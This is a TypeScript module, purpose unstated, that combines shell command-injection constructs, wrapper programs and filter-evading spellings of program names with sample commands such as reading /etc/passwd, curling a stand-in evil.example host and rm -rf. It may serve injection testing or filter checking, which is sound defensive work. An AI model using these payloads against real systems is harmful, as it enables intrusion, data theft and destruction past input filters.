/** Writes a command in a value: what ends the server's own, and where the new one stands. */
export type Construct = (command: string) => string;
/** Writes the name of a program, or what stands before it. */
export type Spelling = (name: string) => string;

/** By the grammar of POSIX shells (POSIX.1-2024 XCU 2.10), bash and cmd.exe: ways in which a value goes on as a command. */
export const CONSTRUCTS: Readonly<Record<string, Construct>> = {
  'a list': (command) => `;${command}`,
  'a list with spaces': (command) => ` ; ${command} ;`,
  'a list and a comment': (command) => `; ${command} #`,
  'a pipe': (command) => `|${command}`,
  'a pipe with spaces': (command) => ` | ${command}`,
  'a pipe of both outputs': (command) => `|&${command}`,
  'an or': (command) => ` || ${command} ||`,
  'an and': (command) => `&&${command}`,
  'the background': (command) => ` & ${command} &`,
  'a line': (command) => `\n${command}\n`,
  'a line of Windows': (command) => `\r\n${command}`,
  'a substitution': (command) => `$(${command})`,
  'a substitution of old': (command) => `\`${command}\``,
  'out of double quotes': (command) => `";${command};"`,
  'out of single quotes': (command) => `';${command} #`,
  'a group': (command) => `;{ ${command};}`,
  'a subshell': (command) => `;(${command})`,
  not: (command) => `;! ${command}`,
  'a condition': (command) => `;if true;then ${command};fi`,
  else: (command) => `;if false;then :;else ${command};fi`,
  'a loop': (command) => `;while :;do ${command};done`,
  until: (command) => `;until ${command};do :;done`,
  'a loop of words': (command) => `;for i in 1;do ${command};done`,
  'a case': (command) => `;case x in x) ${command};;esac`,
  'a function': (command) => `;f(){ ${command};};f`,
  'a function of bash': (command) => `;function f { ${command}; }; f`,
  'a coprocess': (command) => `;coproc ${command}`,
  'a variable of its own': (command) => `;A=1 ${command}`,
  'a redirection first': (command) => `;>/tmp/o ${command}`,
  'a duplicated output first': (command) => `;2>&1 ${command}`,
  'without echo': (command) => `&@${command}`,
};

/** Programs that run what follows them, with options as their manuals have them. */
export const WRAPPERS: readonly string[] = [
  'env',
  'env -i A=1',
  'exec',
  'command',
  'builtin',
  'nohup',
  'setsid',
  'time',
  'nice -n 5',
  'ionice -c3',
  'timeout 5',
  'timeout -k 1 5',
  'stdbuf -oL',
  'sudo',
  'sudo -u root',
  'doas',
  'su root -c',
  'busybox',
  'xargs',
  'xargs -I{}',
  'watch -n 1',
  'strace -f',
  'chroot /',
  'unshare -r',
  'flock /tmp/l',
  'taskset 1',
  'systemd-run',
  'runuser -u root --',
  'ssh localhost',
  'eval',
  'cmd /c',
  'cmd.exe /s /c',
  '%COMSPEC% /c',
  'call',
  'start "" /b',
];

const first = (name: string) => name.charAt(0);
const rest = (name: string) => name.slice(1);

/** Ways in which a shell reads the same name (POSIX.1-2024 XCU 2.2, 2.6; bash; cmd.exe; PowerShell). */
export const SPELLINGS: Readonly<Record<string, Spelling>> = {
  'empty quotes': (name) => `${first(name)}''${rest(name)}`,
  'empty double quotes': (name) => `${first(name)}""${rest(name)}`,
  'whole in quotes': (name) => `'${name}'`,
  'a backslash': (name) => `${first(name)}\\${rest(name)}`,
  'a backslash first': (name) => `\\${name}`,
  'a caret': (name) => `${first(name)}^${rest(name)}`,
  'a continued line': (name) => `${first(name)}\\\n${rest(name)}`,
  'letters by number': (name) => `$'\\x${name.charCodeAt(0).toString(16)}'${rest(name)}`,
  'letters by octal number': (name) => `$'\\${name.charCodeAt(0).toString(8)}'${rest(name)}`,
  'quotes of a locale': (name) => `$"${name}"`,
  'no parameters': (name) => `${first(name)}$@${rest(name)}`,
  'a variable that is not set': (name) => `${first(name)}\${x}${rest(name)}`,
  'a part of a variable': (name) => `${first(name)}\${x:0:0}${rest(name)}`,
  'a default': (name) => `\${x:-${name}}`,
  'an empty substitution': (name) => `${first(name)}$()${rest(name)}`,
  'two backticks': (name) => `${first(name)}\`\`${rest(name)}`,
  'what echo says': (name) => `$(echo ${name})`,
  'what printf says': (name) => `$(printf '${name}')`,
  'its place': (name) => `/bin/${name}`,
  'its place by a pattern': (name) => `/b?n/${first(name)}?${name.slice(2)}`,
  'its place by stars': (name) => `/b*/${first(name)}[${name.charAt(1)}]${name.slice(2)}`,
  'a slash of a variable': (name) => `\${PATH:0:1}bin\${PATH:0:1}${name}`,
  'a part of a variable of Windows': (name) => `${first(name)}%x:~0,0%${rest(name)}`,
};

/** Programs and what they are given: such as say all by their name, by an option, by a place, by an address. */
export const COMMANDS: readonly (readonly [name: string, operands: string])[] = [
  ['cat', ' /etc/passwd'],
  ['touch', ' /tmp/x'],
  ['curl', ' http://evil.example/x'],
  ['ping', ' -c 3 evil.example'],
  ['rm', ' -rf /tmp/x'],
  ['uname', ' -a'],
];
